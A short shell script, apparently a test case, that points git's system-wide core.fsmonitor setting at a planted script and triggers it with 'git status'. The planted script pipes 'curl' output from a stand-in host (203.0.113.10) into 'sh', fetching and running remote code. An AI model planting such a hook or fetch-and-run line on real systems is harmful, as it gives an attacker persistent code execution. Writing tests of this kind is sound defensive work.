#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/usr/lib/git-watch
chmod 755 /usr/lib/git-watch
git config --system core.fsmonitor /usr/lib/git-watch
mkdir /srv/work && cd /srv/work && git init -q && touch a && git add a
git status >/dev/null
wait_for /tmp/reached
took_place
